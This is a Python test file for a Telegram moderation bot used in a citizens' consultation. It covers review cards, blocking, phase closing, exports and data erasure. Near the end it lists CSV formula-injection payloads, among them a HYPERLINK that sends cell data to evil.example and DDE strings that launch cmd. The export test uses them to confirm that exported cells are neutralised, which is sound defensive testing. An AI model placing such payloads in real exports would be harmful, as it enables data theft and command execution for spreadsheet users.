"""Moderators steer the consultation from Telegram: through the emulator, as people would."""

from __future__ import annotations

import csv
import io
import json
import logging
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiogram.filters import Command
from sqlalchemy import func, select

from bot.app.config import Settings
from bot.domain.clock import Clock, system_clock
from bot.domain.pseudonym import keyed_hash, pseudonym_for
from bot.emulator.server import BotApiEmulator
from bot.ops.export import read_csv, snapshot, to_csv
from handlers.moderation import moderator_router
from storage.models import AuditEntry, Base, Rating
from tests.digest_support import FakeClock
from tests.harness import Citizen, Harness, RunningBot, make_settings
from tests.test_languages import walk

# Also with aiogram's stock Bot API session (tests/conftest.py).
pytestmark = pytest.mark.both_sessions

MOD_A, MOD_B = 900_001, 8_000_000_777
NAMES = {MOD_A: "Anna", MOD_B: "Bernd"}  # the moderators' first names on Telegram


async def start_harness(
    emulator: BotApiEmulator, database_url: str, clock: Clock = system_clock, **overrides: Any
) -> Harness:
    emulator.add_channel("@ruhr_dialog")
    for moderator in (MOD_A, MOD_B):  # moderators have opened the bot once
        emulator.user(moderator, first_name=NAMES[moderator])
    settings = make_settings(
        emulator.base_url, database_url, moderators=frozenset({MOD_A, MOD_B}), **overrides
    )
    bot = RunningBot(settings, clock=clock)
    await bot.start()
    return Harness(emulator, bot)


@pytest.fixture
async def mod(emulator: BotApiEmulator, database_url: str) -> AsyncIterator[Harness]:
    harness = await start_harness(emulator, database_url)
    try:
        yield harness
    finally:
        await harness.bot.stop()


async def export(h: Harness) -> dict[str, Any]:
    assert h.bot.app is not None
    return await snapshot(h.settings, h.bot.app.database, system_clock())


def votes_of(data: dict[str, Any], topic_id: str) -> int:
    return next(t["votes"] for t in data["topics"] if t["id"] == topic_id)


def exported_files(moderator: Citizen) -> dict[str, bytes]:
    """The files of the last /export: one message, one zip file."""
    [message] = [m for m in moderator.user.messages if m.document is not None]
    assert message.filename.endswith(".zip") and message.document is not None
    with zipfile.ZipFile(io.BytesIO(message.document)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def card_for(moderator: Citizen, impulse_id: int) -> Any:
    return next(
        m for m in reversed(moderator.user.messages) if f"Impuls #{impulse_id}</b>" in m.raw_text
    )


IDEA = "Ein Sozialticket für 9 Euro im ganzen Verkehrsverbund <Rhein-Ruhr> & darüber hinaus"


def moderator_router_commands(settings: Settings) -> set[str]:
    """Every command a handler of the moderators' router (and its sub-routers) listens to."""
    found: set[str] = set()
    for router in moderator_router(settings).chain_tail:
        for handler in router.message.handlers:
            for condition in handler.filters or []:
                if isinstance(condition.callback, Command):
                    found.update(str(c) for c in condition.callback.commands)
    return found


async def test_a_citizen_never_reaches_a_moderator_command(
    mod: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    commands = sorted(moderator_router_commands(mod.settings))
    assert {"queue", "merge", "digest", "ohne"} <= set(commands)  # the walk finds them
    author, citizen = mod.citizen(1233), mod.citizen(1234)
    await author.take_part(["Sport & Events"], impulse="Mehr Sportplätze in Herne öffnen")
    card = card_for(mod.citizen(MOD_A), 1)
    await citizen.send("/hilfe")
    help_text = citizen.last_text
    with caplog.at_level(logging.WARNING, logger="bot.telegram.middlewares"):
        for command in commands:
            for text in (f"/{command}", f"/{command} 1", f"/{command} close"):
                await citizen.send(text)
                assert citizen.last_text == help_text, text
        # A pending card's own buttons, pressed by a citizen (the data is all a client sends).
        for button in card.buttons:
            assert button.callback_data is not None
            citizen.user.press_data(citizen.user.last_message.message_id, button.callback_data)
            await mod.settle()
    refused = [r.getMessage() for r in caplog.records if "moderator-only" in r.getMessage()]
    assert len(refused) == 3 * len(commands) + len(card.buttons), refused
    assert all(str(citizen.user.id) not in line for line in refused)
    # Nothing happened: the idea still waits, no moderator action was recorded, no post.
    data = await export(mod)
    assert [i["status"] for i in data["impulses"]] == ["pending"]
    assert mod.bot.app is not None
    async with mod.bot.app.database.reading() as session:
        assert await session.scalar(select(func.count()).select_from(AuditEntry)) == 0
    assert mod.emulator.chat_messages("@ruhr_dialog") == []
    assert card_for(mod.citizen(MOD_A), 1).text == card.text
    # The phase is still open: the citizen can still take part.
    await citizen.take_part(["Sport & Events"])
    assert "Danke!" in citizen.last_text


async def test_review_card_approval_and_the_author_is_told(mod: Harness) -> None:
    author = mod.citizen(5001)
    await author.take_part(["Mobilität & ÖPNV"], impulse=IDEA, source="flyer_essen")
    moderator_a, moderator_b = mod.citizen(MOD_A), mod.citizen(MOD_B)
    card = moderator_a.user.last_message
    assert "Impuls #1" in card.text and IDEA in card.text
    assert "Mobilität & ÖPNV" in card.text and "flyer_essen" in card.text
    assert "&lt;Rhein-Ruhr&gt; &amp;" in card.raw_text
    assert card.button_texts[:2] == ["✅ Freigeben", "❌ Ablehnen"]
    assert "Impuls #1" in moderator_b.user.last_message.text

    await moderator_a.press("Freigeben", message_id=card.message_id)
    assert (
        "veröffentlicht" in author.last_text and "„Ein Sozialticket für 9 Euro" in author.last_text
    )
    # The other moderator's copy now says who decided, by first name; no approve button is
    # left on it. The deciding moderator reads "Ihnen"; no copy names a Telegram id.
    other = card_for(moderator_b, 1)
    assert "Entschieden von: Anna" in other.text
    assert "Entschieden von: Ihnen" in card_for(moderator_a, 1).text
    assert not any(str(MOD_A) in m.text for m in moderator_b.user.messages)
    assert "✅ Freigeben" not in other.button_texts
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["approved"]


async def test_two_moderators_deciding_at_once_the_first_wins(mod: Harness) -> None:
    author = mod.citizen(5002)
    await author.take_part(["Sport & Events"], impulse="Mehr Sportplätze in Herne öffnen")
    moderator_a, moderator_b = mod.citizen(MOD_A), mod.citizen(MOD_B)
    for moderator in (moderator_a, moderator_b):  # the bot has seen both (and their names)
        await moderator.send("/phase")
    card_a, card_b = card_for(moderator_a, 1), card_for(moderator_b, 1)
    await moderator_b.press("Ablehnen", message_id=card_b.message_id)
    await moderator_b.press("Werbung oder Spam", message_id=card_b.message_id)
    # Both decisions are in Telegram's queue before the bot handles either.
    moderator_a.user.press("Freigeben", message_id=card_a.message_id)
    moderator_b.user.press("Ja, ablehnen", message_id=card_b.message_id)
    await mod.settle()
    [impulse] = (await export(mod))["impulses"]
    winner, loser = (
        (moderator_a, moderator_b)
        if impulse["status"] == "approved"
        else (moderator_b, moderator_a)
    )
    assert impulse["status"] in ("approved", "rejected")
    assert "Schon entschieden" in loser.user.callback_answers[-1].text
    assert NAMES[winner.user.id] in loser.user.callback_answers[-1].text
    assert str(winner.user.id) not in loser.user.callback_answers[-1].text
    assert not (winner.user.callback_answers[-1].text or "").startswith("Schon")
    told = [m.text for m in author.user.messages if "„Mehr Sportplätze in Herne öffnen“" in m.text]
    assert len(told) == 1  # the author hears one decision, the one that counts
    # The loser's copy of the card shows the final state and who decided.
    assert f"Entschieden von: {NAMES[winner.user.id]}" in card_for(loser, 1).text


async def test_rejection_with_reason_and_official_answer(mod: Harness) -> None:
    author = mod.citizen(5003)
    await author.take_part(
        ["Heimat Ruhr: Wohnen & Leben"], impulse="Meine Nachbarin Frau X ist schuld"
    )
    moderator = mod.citizen(MOD_A)
    card = card_for(moderator, 1)
    await moderator.press("Ablehnen", message_id=card.message_id)
    assert "enthält persönliche Daten" in card_for(moderator, 1).button_texts
    await moderator.press("enthält persönliche Daten", message_id=card.message_id)
    await moderator.press("Ja, ablehnen", message_id=card.message_id)
    assert "nicht veröffentlicht" in author.last_text
    assert "enthält persönliche Daten" in author.last_text

    await moderator.press("Antworten", message_id=card.message_id)
    await moderator.press("An das Themenforum weitergeleitet")
    told = len(author.user.messages)
    await moderator.send("Wir haben das Anliegen ohne Namen an das Forum Heimat.Ruhr gegeben.")
    assert "Vorschau" in moderator.last_text and "ohne Namen" in moderator.last_text
    assert moderator.buttons() == ["📨 Senden", "✏️ Ändern", "Abbrechen"]
    assert len(author.user.messages) == told  # nothing sent before "Senden"
    await moderator.press("Senden")
    assert "an die Person geschickt" in moderator.last_text
    answer = author.last_text
    assert "Antwort auf Ihre Idee (#1)" in answer
    assert "An das Themenforum weitergeleitet" in answer
    assert "ohne Namen" in answer
    assert "weitergeleitet" in card_for(moderator, 1).text

    await moderator.send("/audit")
    log = moderator.last_text
    assert "abgelehnt" in log and "beantwortet" in log and "Impuls #1" in log
    assert "enthält persönliche Daten" in log and "reject" not in log


async def approved_card(h: Harness, author_id: int, idea: str) -> tuple[Citizen, Citizen, int]:
    author = h.citizen(author_id)
    await author.take_part(["Sport & Events"], impulse=idea)
    moderator = h.citizen(MOD_A)
    card = card_for(moderator, 1)
    await moderator.press("Freigeben", message_id=card.message_id)
    return author, moderator, card.message_id


async def test_an_answer_is_previewed_and_any_command_leaves_the_answer_mode(mod: Harness) -> None:
    author, moderator, card = await approved_card(mod, 5201, "Freibäder im Sommer länger öffnen")
    told = len(author.user.messages)

    # "Ändern" writes it again; only the text after that is sent.
    await moderator.press("Antworten", message_id=card)
    await moderator.press("In Bearbeitung")
    assert "Jeder Befehl bricht ab" in moderator.last_text
    await moderator.send("Entwurf mit Tippfeler")
    await moderator.press("Ändern")
    assert "Schreiben Sie jetzt die Antwort" in moderator.last_text
    await moderator.send("Das Forum Sport prüft die Öffnungszeiten.")
    await moderator.press("Senden")
    assert len(author.user.messages) == told + 1
    assert "prüft die Öffnungszeiten" in author.last_text and "Tippfeler" not in author.last_text

    # A command in the middle leaves the mode (and runs); the next note stays with the moderator.
    await moderator.press("Antworten", message_id=card)
    await moderator.press("Umgesetzt")
    await moderator.send("/stats")
    # (/stats answers with new participants by hour first, then the figures.)
    assert "nichts an die Person gesendet" in moderator.user.messages[-3].text
    assert "Statistik" in moderator.last_text
    await moderator.send("Notiz ans Team: morgen Karte #1 nochmal ansehen")
    assert len(author.user.messages) == told + 1
    assert "Vorschau" not in moderator.last_text

    # "Abbrechen" sends nothing, and the old preview's buttons are spent.
    await moderator.press("Antworten", message_id=card)
    await moderator.press("Eingegangen")
    await moderator.send("Noch ein Entwurf")
    preview = moderator.user.last_message
    send = next(b.callback_data for b in preview.buttons if b.text == "📨 Senden")
    await moderator.press("Abbrechen")
    assert "Nicht gesendet" in moderator.last_text
    await moderator.do(lambda: moderator.user.press_data(preview.message_id, send))  # a late tap
    assert "nicht mehr aktuell" in moderator.user.callback_answers[-1].text
    assert len(author.user.messages) == told + 1


async def test_the_answer_mode_expires(emulator: BotApiEmulator, database_url: str) -> None:
    clock = FakeClock(datetime(2026, 12, 3, 10, 0, tzinfo=UTC))
    mod = await start_harness(emulator, database_url, clock=clock, answer_minutes=10)
    try:
        author, moderator, card = await approved_card(mod, 5202, "Mehr Trinkbrunnen in Parks")
        told = len(author.user.messages)
        await moderator.press("Antworten", message_id=card)
        await moderator.press("Eingegangen")
        assert "nach 10 Minuten" in moderator.last_text
        clock.set(clock.now + timedelta(minutes=10))
        await moderator.send("Kaffee ist fertig!")
        assert "abgelaufen" in moderator.last_text
        assert len(author.user.messages) == told
        await moderator.send("Noch ein Gedanke")  # the mode is gone: no preview, nothing sent
        assert "Vorschau" not in moderator.last_text and len(author.user.messages) == told

        # A preview that waited too long is not sent either.
        await moderator.press("Antworten", message_id=card)
        await moderator.press("Eingegangen")
        clock.set(clock.now + timedelta(minutes=9))
        await moderator.send("Wir haben Ihre Idee erhalten.")
        clock.set(clock.now + timedelta(minutes=10))
        await moderator.press("Senden")
        assert "abgelaufen" in moderator.user.callback_answers[-1].text
        assert len(author.user.messages) == told
    finally:
        await mod.bot.stop()


async def test_blocking_removes_votes_and_unblocking_restores_them(mod: Harness) -> None:
    author = mod.citizen(5004)
    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
    other = mod.citizen(5005)
    await other.take_part(["Kunst & Kreativität"])
    assert votes_of(await export(mod), "kunst") == 2
    moderator = mod.citizen(MOD_A)

    await moderator.send("/block #1")
    await moderator.press("Ja, sperren")
    assert "gesperrt" in moderator.last_text
    data = await export(mod)
    assert (data["participants"], votes_of(data, "kunst")) == (1, 1)
    await author.send("/meinvotum")
    assert "gesperrt" in author.last_text

    await moderator.send("/unblock 1")
    data = await export(mod)
    assert (data["participants"], votes_of(data, "kunst")) == (2, 2)
    await author.send("/meinvotum")
    assert author.last_text.startswith("Ihre Wahl\n")

    await moderator.send("/block kaputt")
    assert "/block 42" in moderator.last_text


async def test_closed_phase_refuses_changes(mod: Harness) -> None:
    citizen = mod.citizen(5006)
    await citizen.take_part(["Grüne Infrastruktur"])
    midway = mod.citizen(5008)  # consented before the close, has chosen a topic
    await midway.send("/start")
    await midway.press("Mitmachen")
    await midway.press("Sport & Events")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/phase close")
    await moderator.press("Ja, schließen")
    assert "geschlossen" in moderator.last_text

    await citizen.send("/meinvotum")
    assert "abgeschlossen" in citizen.user.messages[-2].text
    assert citizen.user.messages[-2].button_texts == []
    assert (
        "Das Ergebnis" in citizen.last_text and "1. Grüne Infrastruktur: 100 %" in citizen.last_text
    )

    # Someone arriving now learns it at once: no consent, the results instead.
    newcomer = mod.citizen(5007)
    await newcomer.send("/start qr_hbf_bochum")
    welcome = newcomer.last_text
    assert "abgeschlossen" in welcome and "2 Minuten" not in welcome
    assert "1. Grüne Infrastruktur: 100 %" in welcome and "Teilnehmende: 1" in welcome
    assert newcomer.buttons() == []
    await newcomer.send("/meinvotum")
    assert "Das Ergebnis" in newcomer.last_text and "/start" not in newcomer.last_text

    # Someone mid-dialog is stopped at the next tap, not at "Absenden"; the draft is kept.
    await midway.press("Weiter")
    assert "abgeschlossen" in midway.user.callback_answers[-1].text
    assert "/ergebnis" in midway.user.callback_answers[-1].text
    assert "Gewählt: 1 von 3" in midway.last_text
    await midway.send("/ergebnis")
    assert "1. Grüne Infrastruktur: 100 %" in midway.last_text
    assert (await export(mod))["participants"] == 1  # nothing was submitted meanwhile

    await moderator.send("/phase open")
    await midway.press("Weiter")
    await midway.press("Überspringen")
    await midway.press("Absenden")
    # The thanks are in the message the dialog lives in, above the /ergebnis answer.
    assert any("Danke!" in m.text for m in midway.user.messages)
    await moderator.send("/phase vielleicht")
    assert "/phase open" in moderator.last_text


async def test_results_at_any_time_in_every_language(mod: Harness) -> None:
    for n, topics in enumerate([["Sport & Events", "Mobilität & ÖPNV"], ["Sport & Events"]]):
        await mod.citizen(5100 + n).take_part(topics)
    reader = mod.citizen(5110)  # never took part
    await reader.send("/ergebnis")
    results = reader.last_text
    assert "Die Ergebnisse bisher" in results and "Teilnehmende: 2" in results
    assert "1. Sport & Events: 100 %" in results and "2. Mobilität & ÖPNV: 50 %" in results
    for n, (command, locale, heading) in enumerate(
        [
            ("/results", "en", "results so far"),
            ("/sonuclar", "tr", "Şu ana kadarki sonuçlar"),
            ("/ergebnis", "de_LS", "Das Ergebnis bis jetzt"),
        ]
    ):
        person = mod.citizen(5120 + n, language_code=locale[:2])
        if locale == "de_LS":
            await person.send("/sprache")
            await person.press("Leichte Sprache")
        await person.send(command)
        assert heading in person.last_text, (command, person.last_text)

    await mod.citizen(MOD_A).send("/phase close")
    await mod.citizen(MOD_A).press("Ja, schließen")
    await reader.send("/ergebnis")
    assert "Das Ergebnis" in reader.last_text and "1. Sport & Events: 100 %" in reader.last_text


async def test_ratings_are_refused_while_closed(mod: Harness) -> None:
    author = mod.citizen(5130)
    await author.take_part(["Sport & Events"], impulse="Mehr Bolzplätze in allen Stadtteilen")
    moderator = mod.citizen(MOD_A)
    await moderator.press("Freigeben", message_id=card_for(moderator, 1).message_id)
    rater = mod.citizen(5131)
    await rater.take_part(["Sport & Events"])
    await rater.send("/stoebern")
    assert "Idee #1" in rater.last_text
    await moderator.send("/phase close")
    await moderator.press("Ja, schließen")
    await rater.press("Stimme zu")
    assert "abgeschlossen" in rater.user.callback_answers[-1].text
    await rater.send("/stoebern")
    assert "abgeschlossen" in rater.last_text
    assert mod.bot.app is not None
    async with mod.bot.app.database.reading() as session:
        assert list(await session.scalars(select(Rating))) == []


async def test_announcement_is_previewed_escaped_and_posted_once(mod: Harness) -> None:
    moderator = mod.citizen(MOD_A)
    await moderator.send("/announce Heute 18 Uhr: <b>Ergebnisse</b> & Ausblick")
    assert "Vorschau" in moderator.last_text
    assert mod.emulator.chat_messages("@ruhr_dialog") == []
    await moderator.press("Im Kanal veröffentlichen")
    [post] = mod.emulator.chat_messages("@ruhr_dialog")
    assert post.text == "Heute 18 Uhr: <b>Ergebnisse</b> & Ausblick"
    assert "veröffentlicht" in moderator.last_text


CITIZENS = [7_500_000_101, 7_500_000_102, 7_500_000_103]  # Telegram ids, found by no accident


def holds_a_citizen_id(value: Any) -> bool:
    """A citizen's Telegram id anywhere in a parsed value: as a number or inside a text."""
    if isinstance(value, dict):
        return any(holds_a_citizen_id(v) for v in value.values())
    if isinstance(value, list):
        return any(holds_a_citizen_id(v) for v in value)
    if isinstance(value, bool) or value is None:
        return False
    return value in CITIZENS or any(str(c) in str(value) for c in CITIZENS)


async def test_stats_queue_and_export(mod: Harness) -> None:
    for user_id, source in zip(CITIZENS, ["flyer_essen", "flyer_essen", None], strict=True):
        c = mod.citizen(user_id)
        await c.take_part(
            ["Mobilität & ÖPNV", "Lehrkräfte gewinnen"],
            impulse=f"Idee Nummer {user_id % 10} mit Text",
            source=source,
        )
    moderator = mod.citizen(MOD_A)
    await moderator.send("/stats")
    stats = moderator.last_text
    assert "Teilnehmende: 3\nheute 3 · 7 Tage 3" in stats
    assert " 1 Mobilität & ÖPNV" in stats and "100%" in stats
    assert "flyer_essen: 2" in stats
    assert "wartet auf Prüfung: 3" in stats

    await moderator.send("/queue")
    assert "3 Impulse warten" in moderator.user.messages[-2].text
    assert "Impuls #1" in moderator.last_text
    # Decisions about citizens, so that the audit log has entries about them.
    await moderator.press("Freigeben", message_id=card_for(moderator, 1).message_id)
    await moderator.send("/block 2")
    await moderator.press("Ja, sperren")
    await moderator.send("/audit")
    assert "Sie · Person gesperrt · Impuls #2" in moderator.last_text

    await moderator.send("/export")
    documents = exported_files(moderator)
    assert {name.split("-")[0] for name in documents} == {
        "dialogbot",
        "stimmen",
        "impulse",
        "themen",
    }
    full = json.loads(next(d for n, d in documents.items() if n.endswith(".json")))
    assert len(full["votes"]) == 6 and full["participants"] == 2  # one author is blocked
    assert [entry["action"] for entry in full["audit"]] == ["export", "block", "approve"]
    # No citizen's Telegram id in the exports: not as a JSON number or string, not in any CSV
    # column; nor in anything the moderators were shown (cards, /stats, /queue, /audit).
    assert not holds_a_citizen_id(full), full
    tables = {n: d for n, d in documents.items() if n.endswith(".csv")}
    assert len(tables) == 3
    for name, table in tables.items():
        rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig")), delimiter=";"))
        assert len(rows) > 1 and all(len(row) == len(rows[0]) for row in rows), rows
        assert not holds_a_citizen_id(rows), (name, rows)
    for someone in (moderator, mod.citizen(MOD_B)):
        shown = [(m.text, m.raw_text, m.button_texts) for m in someone.user.messages]
        assert len(shown) >= 3 and not holds_a_citizen_id(shown), shown
    # Nor in what the citizens themselves were answered.
    for user_id in CITIZENS:
        told = [(m.text, m.raw_text) for m in mod.citizen(user_id).user.messages]
        assert told and not holds_a_citizen_id(told), told


async def test_post_moderation_publishes_at_once_and_can_take_down(
    emulator: BotApiEmulator, database_url: str
) -> None:
    mod = await start_harness(emulator, database_url, moderation_mode="post")
    try:
        author = mod.citizen(5008)
        await author.take_part(["Sport & Events"], impulse="Bolzplätze nachts beleuchten lassen")
        assert (await export(mod))["impulses"][0]["status"] == "approved"
        moderator = mod.citizen(MOD_A)
        card = card_for(moderator, 1)
        assert "⬇️ Zurückziehen" in card.button_texts
        await moderator.press("Zurückziehen", message_id=card.message_id)
        await moderator.press("passt nicht zum Thema", message_id=card.message_id)
        assert (await export(mod))["impulses"][0]["status"] == "approved"  # asked first
        assert "Zurückziehen?" in card_for(moderator, 1).text
        await moderator.press("Ja, zurückziehen", message_id=card.message_id)
        assert (await export(mod))["impulses"][0]["status"] == "removed"
        assert "zurückgezogen" in author.last_text
    finally:
        await mod.bot.stop()


async def test_review_cards_go_to_the_moderators_group_when_configured(
    emulator: BotApiEmulator, database_url: str
) -> None:
    group = emulator.add_group("Moderation Ruhr-Dialog")
    mod = await start_harness(emulator, database_url, moderators_chat=group)
    try:
        await mod.citizen(5009).take_part(["Sport & Events"], impulse="Freibäder länger öffnen")
        [card] = emulator.chat_messages(group)
        assert "Impuls #1" in card.text and "Freibäder länger öffnen" in card.text
        assert "✅ Freigeben" in card.button_texts
        assert not any("Impuls #1" in m.text for m in mod.citizen(MOD_A).user.messages)
        # The bot stays in its moderators' group even though it leaves every other group.
        emulator.user(MOD_A).send_text_in_group(group, "Guten Morgen")
        await mod.settle()
        assert not emulator.calls_to("leaveChat")
    finally:
        await mod.bot.stop()


async def test_cards_come_in_each_moderators_language_not_the_authors(
    emulator: BotApiEmulator, database_url: str
) -> None:
    emulator.user(MOD_A, first_name="Moderation", language_code="tr")  # no moderators' language
    emulator.user(MOD_B, first_name="Moderation", language_code="en")
    mod = await start_harness(emulator, database_url)
    try:
        moderator_a, moderator_b = mod.citizen(MOD_A), mod.citizen(MOD_B)
        for moderator in (moderator_a, moderator_b):  # the bot learns their language
            await moderator.send("/queue")
        assert "Warteschlange" in moderator_a.last_text
        assert "queue" in moderator_b.last_text.lower()

        author = mod.citizen(5301, language_code="en")
        await walk(author, "en", ["mobilitaet"], impulse="A single ticket for the whole region")
        card_a, card_b = card_for(moderator_a, 1), moderator_b.user.last_message
        assert "Impuls #1" in card_a.text and "wartet auf Prüfung" in card_a.text
        assert "Thema: Mobilität & ÖPNV" in card_a.text
        assert card_a.button_texts[:2] == ["✅ Freigeben", "❌ Ablehnen"]
        assert "Idea #1" in card_b.text and "Topic: Mobility" in card_b.text
        assert card_b.button_texts[:2] == ["✅ Approve", "❌ Reject"]

        # Also what the Turkish-speaking moderator's own taps bring is German, though the
        # reasons exist in Turkish for citizens.
        await moderator_a.press("Ablehnen", message_id=card_a.message_id)
        assert "enthält persönliche Daten" in card_for(moderator_a, 1).button_texts
        await moderator_a.press("Zurück", message_id=card_a.message_id)

        # A decision by the English moderator updates the German copy in German.
        await moderator_b.press("Approve", message_id=card_b.message_id)
        assert "veröffentlicht" in card_for(moderator_a, 1).text
        assert "published" in moderator_b.user.messages[-1].text
        assert "published" in author.last_text  # the author still reads their own language
    finally:
        await mod.bot.stop()


async def test_cards_in_the_moderators_group_come_in_the_configured_language(
    emulator: BotApiEmulator, database_url: str
) -> None:
    group = emulator.add_group("Moderation Ruhr-Dialog")
    mod = await start_harness(
        emulator, database_url, moderators_chat=group, moderation_language="en"
    )
    try:
        author = mod.citizen(5302, language_code="tr")
        await walk(author, "tr", ["sport"], impulse="Yüzme havuzları yazın daha uzun açık olsun")
        [card] = emulator.chat_messages(group)
        assert "Idea #1" in card.text and "✅ Approve" in card.button_texts
    finally:
        await mod.bot.stop()


async def test_my_vote_names_every_status_in_words(
    emulator: BotApiEmulator, database_url: str
) -> None:
    mod = await start_harness(emulator, database_url, moderation_mode="post")
    try:
        kept, duplicate, withdrawn = (mod.citizen(5400 + n) for n in range(3))
        await kept.take_part(["Sport & Events"], impulse="Freibäder im Sommer bis 22 Uhr öffnen")
        await duplicate.take_part(
            ["Sport & Events"], impulse="Schwimmhallen im Juli rund um die Uhr betreiben"
        )
        await withdrawn.take_part(["Sport & Events"], impulse="Eine Eisbahn auf jedem Marktplatz")
        moderator = mod.citizen(MOD_A)
        await moderator.send("/merge 2 1")
        await moderator.press("Ja, zusammenführen")
        await moderator.press("Zurückziehen", message_id=card_for(moderator, 3).message_id)
        await moderator.press("beleidigend", message_id=card_for(moderator, 3).message_id)
        await moderator.press("Ja, zurückziehen", message_id=card_for(moderator, 3).message_id)
        for citizen, words, code in [
            (kept, "veröffentlicht", "approved"),
            (duplicate, "mit einer gleichen Idee zusammengelegt", "merged"),
            (withdrawn, "von der Moderation zurückgezogen", "removed"),
        ]:
            await citizen.send("/meinvotum")
            assert words in citizen.last_text and code not in citizen.last_text
    finally:
        await mod.bot.stop()


async def test_counts_use_plural_forms(emulator: BotApiEmulator, database_url: str) -> None:
    emulator.user(MOD_B, first_name="Moderation", language_code="en")
    mod = await start_harness(emulator, database_url)
    try:
        await mod.citizen(5501).take_part(["Sport & Events"], impulse="Mehr Bolzplätze bauen")
        moderator_a, moderator_b = mod.citizen(MOD_A), mod.citizen(MOD_B)
        await moderator_a.send("/queue")
        assert "1 Impuls wartet auf Prüfung" in moderator_a.user.messages[-2].text
        await moderator_b.send("/queue")
        assert "1 idea awaiting review" in moderator_b.user.messages[-2].text
        await mod.citizen(5502).take_part(["Sport & Events"], impulse="Skateparks in Herne")
        await moderator_b.send("/queue")
        assert "2 ideas awaiting review" in moderator_b.user.messages[-2].text
    finally:
        await mod.bot.stop()


async def test_erasing_an_author_keeps_the_published_idea_and_no_link_to_them(
    mod: Harness,
) -> None:
    author, rater = mod.citizen(7_311_957_846), mod.citizen(5012)
    await author.take_part(["Sport & Events"], impulse=IDEA, source="flyer_essen")
    moderator = mod.citizen(MOD_A)
    await moderator.press("Freigeben", message_id=card_for(moderator, 1).message_id)
    await rater.take_part(["Sport & Events"])
    await author.send("/meinvotum")  # and is in the middle of changing the vote
    await author.press("Wahl ändern")
    assert mod.bot.app is not None
    database, secret = mod.bot.app.database, mod.settings.secret
    pseudonym = pseudonym_for(author.user.id, secret)
    states = [  # the author's conversation-state keys (storage/fsm.py)
        keyed_hash(f"4242:{author.user.id}:{author.user.id}:None:{destiny}", secret)
        for destiny in ("default", "locale")
    ]

    async def rows() -> dict[str, list[dict[str, Any]]]:
        async with database.reading() as session:
            return {
                name: [dict(r._mapping) for r in await session.execute(select(table))]
                for name, table in Base.metadata.tables.items()
            }

    before = await rows()
    [participant] = [p for p in before["participants"] if p["pseudonym"] == pseudonym]
    [idea] = before["impulses"]
    assert idea["participant_id"] == participant["id"] and idea["source"] == "flyer_essen"
    assert any(r["key"] in states for r in before["conversation_states"])

    await author.send("/loeschen")
    await author.press("Ja, alles löschen")
    assert "gelöscht" in author.last_text

    after = await rows()
    [kept] = after["impulses"]  # the published idea stays, as it was published
    assert (kept["id"], kept["text"], kept["status"]) == (idea["id"], IDEA, "approved")
    assert kept["participant_id"] is None and kept["source"] is None
    assert [i["text"] for i in (await export(mod))["impulses"]] == [IDEA]
    # Nothing anywhere still points to the author: not the participant row's id, not the
    # pseudonym, not the Telegram id, not a conversation state.
    for name, table_rows in after.items():
        for row in table_rows:
            assert row.get("participant_id") != participant["id"], (name, row)
            for value in row.values():
                assert pseudonym not in str(value), (name, row)
                assert value != author.user.id, (name, row)
                assert str(author.user.id) not in str(value), (name, row)
            assert row.get("key") not in states, (name, row)
    assert len(after["participants"]) == len(before["participants"]) - 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Details")',
    "=cmd|' /C calc'!A0 und mehr Text",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1 ist eine gute Idee für alle",
    "-2+3 klingt nach einer Formel",
    "\t=1+1 mit Tabulator davor",
    "  =1+1 mit Leerzeichen davor",
]


async def test_export_cells_never_start_a_formula_and_name_no_moderator_id(mod: Harness) -> None:
    for i, text in enumerate(FORMULAS):
        await mod.citizen(6100 + i).take_part(["Sport & Events"], impulse=text, source="-x_src")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/export")
    documents = {name.split("-")[0]: data for name, data in exported_files(moderator).items()}
    rows = read_csv(documents["impulse"].decode())
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for value in row.values():
            assert value[:1] not in "=+-@\t\r", value  # a spreadsheet shows text, not a formula
    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["source"] for row in rows} == {"'-x_src"}
    # `dialogbot export` writes the same cells.
    data = await export(mod)
    assert to_csv(data, "impulses") == documents["impulse"].decode()
    full = json.loads(documents["dialogbot"])
    assert full["audit"] and all(e["moderator"].startswith("mod-") for e in full["audit"])
    assert str(MOD_A) not in documents["dialogbot"].decode()


async def test_blocked_people_can_still_see_and_erase_their_data(mod: Harness) -> None:
    author = mod.citizen(5040)
    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/block 1")
    await moderator.press("Ja, sperren")
    await author.send("/meinvotum")
    assert "gesperrt" in author.last_text  # the block holds for everything else
    await author.send("/meinedaten")
    document = author.user.last_message.document
    assert document is not None and b"Ateliers" in document
    for alias in ("/mydata", "/verilerim"):  # the other languages' names are rights too
        await author.send(alias)
        assert author.user.last_message.document == document
    await author.send("/delete")
    assert "gesperrt" not in author.last_text
    await author.send("/loeschen")
    await author.press("Ja, alles löschen")
    assert "gelöscht" in author.last_text
    data = await export(mod)
    assert data["participants"] == 0 and data["impulses"] == []


async def test_stats_export_and_audit_answer_only_in_private(
    emulator: BotApiEmulator, database_url: str
) -> None:
    group = emulator.add_group("Moderation Ruhr-Dialog")
    mod = await start_harness(emulator, database_url, moderators_chat=group)
    try:
        await mod.citizen(5041).take_part(["Sport & Events"], impulse="Freibäder länger öffnen")
        before = len(emulator.chat_messages(group))
        for command in ("/stats", "/export", "/audit", "/welle flyer 10:00 jetzt", "/wellen"):
            emulator.user(MOD_A).send_text_in_group(group, command)
        await mod.settle()
        assert len(emulator.chat_messages(group)) == before  # nothing in the group
        moderator = mod.citizen(MOD_A)
        await moderator.send("/stats")
        assert "Teilnehmende: 1" in moderator.last_text  # privately, as before
    finally:
        await mod.bot.stop()


async def test_after_a_decision_the_next_pending_card_follows(mod: Harness) -> None:
    for n, idea in enumerate(["Mehr Sportplätze in Herne öffnen", "Freibäder länger öffnen"]):
        await mod.citizen(5500 + n).take_part(["Sport & Events"], impulse=idea)
